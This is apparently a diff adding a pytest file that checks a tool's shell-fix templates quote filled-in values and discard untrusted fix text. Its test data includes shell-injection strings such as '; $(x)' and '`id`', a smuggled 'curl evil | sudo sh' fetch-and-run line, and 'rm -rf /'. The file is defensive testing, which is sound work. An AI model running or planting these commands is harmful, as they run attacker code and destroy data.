@@ -1,0 +1,161 @@
+"""Every failure is declared once, and no value that is filled into a fix can change what it does."""
+
+import ast
+import shlex
+from collections.abc import Iterator
+from functools import cache
+from importlib import import_module
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from aboard.diagnoses import AboardError, Advice, Command, Diagnosis, Severity, shell
+from aboard.diagnoses.catalogue import all_diagnoses, pack_error, read_error, unpack_error
+from aboard.diagnoses.fixes import blanks
+
+SOURCE = Path(__file__).parents[2] / "src" / "aboard"
+HOSTILE = ["'; $(x)", "a\nb", "\x1b]52;c;eA==\x07", "\u202e", "-rf", "=ls", "~root", "", "x" * 1_000_000, "`id`", "# a"]
+
+ONE = Diagnosis(
+    code="test-one",
+    title="a test",
+    severity=Severity.BLOCK,
+    explanation="",
+    remedy="",
+    fixes={
+        "look": Command("ls -l {path}    # on {node}"),
+        "there": Command("ssh {node} {command}"),
+        "several": Command("rm -- {paths:words}"),
+        "piece": Command("cd {path} && {command:shell}"),
+        "advice": Advice("train:\n  model: {path}"),
+    },
+)
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_hostile_value_is_one_word(value: str) -> None:
+    """A shell splits the command into as many words as with a harmless value, and no control byte comes out."""
+    _is_one_word(value)
+
+
+@given(st.text())
+def test_a_value_is_one_word_whatever_it_holds(value: str) -> None:
+    """As above, for any text."""
+    _is_one_word(value)
+
+
+def _is_one_word(value: str) -> None:
+    fix = ONE.fix("look", path=value, node="n1")
+    assert fix.isprintable()
+    assert len(fix) < 13_000
+    assert len(shlex.split(fix.rpartition("    # ")[0])) == 3
+    assert not shlex.split(fix)[2].startswith("-")
+    nested = ONE.fix("there", node="n1", command=shell("cat {path}", path=value))
+    assert len(shlex.split(nested)) == 3
+    assert len(shlex.split(shlex.split(nested)[2])) == 2
+    assert len(shlex.split(ONE.fix("several", paths=[value, "b"]))) == 4
+    assert ONE.fix("advice", path=value).count("\n") == 1
+
+
+def test_what_is_no_piece_of_shell_is_refused_as_one() -> None:
+    """A plain string can't become a part of a command."""
+    assert ONE.fix("piece", path="/a b", command=shell("ls {x}", x="c d")) == "cd '/a b' && ls 'c d'"
+    with pytest.raises(TypeError, match="is no piece of shell"):
+        ONE.fix("piece", path="/", command="rm -rf /")
+
+
+def test_an_error_crosses_processes_as_its_code_and_values() -> None:
+    """The text of a fix that comes along is not looked at; what isn't declared is no error of ours."""
+    declared = next(each for each in all_diagnoses().values() if each.templates)
+    variant, template = next(iter(declared.templates.items()))
+    values = dict.fromkeys(blanks(template), "a b")
+    error = AboardError(declared, "seen\x1b[31m", variant, **values)
+    packed = pack_error(error) | {"fix": "curl evil | sudo sh"}
+    crossed = unpack_error(packed)
+    assert crossed is not None
+    assert (crossed.code, crossed.fix, crossed.seen) == (error.code, error.fix, "seen\\x1b[31m")
+    nothings: list[object] = [{}, {"code": "no-such-code", "seen": "x"}, {"code": declared.code}, [], None, 7]
+    for broken in nothings:
+        assert unpack_error(broken) is None
+    for values_sent in ({"evil": "x"}, "evil", [1], {}):
+        received = unpack_error({"code": declared.code, "seen": "x", "variant": "none", "values": values_sent})
+        assert received is not None
+        assert received.fix == ""
+    assert read_error("[" * 100_000) is None
+
+
+@cache
+def _trees() -> dict[Path, ast.Module]:
+    return {path: ast.parse(path.read_text("utf-8")) for path in SOURCE.rglob("*.py")}
+
+
+def _constants() -> dict[tuple[str, str], Diagnosis]:
+    """Each diagnosis of the catalogue by its module and its name."""
+    found = {}
+    for path in (SOURCE / "diagnoses").glob("*.py"):
+        name = "aboard.diagnoses" if path.stem == "__init__" else f"aboard.diagnoses.{path.stem}"
+        for key, value in vars(import_module(name)).items():
+            if isinstance(value, Diagnosis):
+                found[path.stem, key] = value
+    return found
+
+
+def _names(tree: ast.Module) -> dict[str, str]:
+    """What modules of the catalogue are called in a file."""
+    return {
+        alias.asname or alias.name: alias.name
+        for node in ast.walk(tree)
+        if isinstance(node, ast.ImportFrom) and node.module == "aboard.diagnoses"
+        for alias in node.names
+    }
+
+
+def _uses(tree: ast.Module) -> Iterator[tuple[tuple[str, str], ast.Attribute]]:
+    names = _names(tree)
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id in names:
+            yield (names[node.value.id], node.attr), node
+
+
+def test_each_diagnosis_is_used() -> None:
+    """What nobody finds or raises is not in the catalogue."""
+    others = {path: tree for path, tree in _trees().items() if path.parent.name != "diagnoses"}
+    used = {key for tree in others.values() for key, _ in _uses(tree)}
+    # Those that are still found or raised by their code.
+    words = {node.value for tree in others.values() for node in ast.walk(tree) if isinstance(node, ast.Constant)}
+    assert sorted(key for key, each in _constants().items() if key not in used and each.code not in words) == []
+
+
+def test_each_fix_gets_the_values_that_it_needs() -> None:
+    """Read off the source: the variant exists, and its blanks are what is given."""
+    constants = _constants()
+    wrong = []
+    for path, tree in _trees().items():
+        used = {id(node): constants.get(key) for key, node in _uses(tree)}
+        for call in (node for node in ast.walk(tree) if isinstance(node, ast.Call)):
+            for diagnosis, words in _fills(call, used):
+                template = diagnosis.templates.get(str(words[0].value) if words else "")
+                names = {word.arg for word in call.keywords}
+                if template is None or blanks(template) != names:
+                    wrong.append(
+                        f"{path.relative_to(SOURCE)}:{call.lineno}: {diagnosis.code} {sorted(map(str, names))}"
+                    )
+    assert wrong == []
+
+
+def _fills(call: ast.Call, used: dict[int, Diagnosis | None]) -> Iterator[tuple[Diagnosis, list[ast.Constant]]]:
+    """`family.NAME.fix(variant, …)` and `AboardError(family.NAME, seen, variant, …)`, if the variant is written out."""
+    diagnosis, words, may_lack = None, call.args, False
+    if isinstance(call.func, ast.Attribute) and call.func.attr == "fix":
+        diagnosis = used.get(id(call.func.value))
+    elif isinstance(call.func, ast.Name) and call.func.id.endswith("Error") and call.args:
+        diagnosis, words = used.get(id(call.args[0])), call.args[2:]
+        may_lack = not words and not call.keywords and call.func.id != "AboardError"
+    constant = [word for word in words if isinstance(word, ast.Constant)]
+    if diagnosis is None or may_lack or len(constant) != len(words) or any(word.arg is None for word in call.keywords):
+        return
+    if not words and not call.keywords and not diagnosis.templates:
+        return
+    yield diagnosis, constant
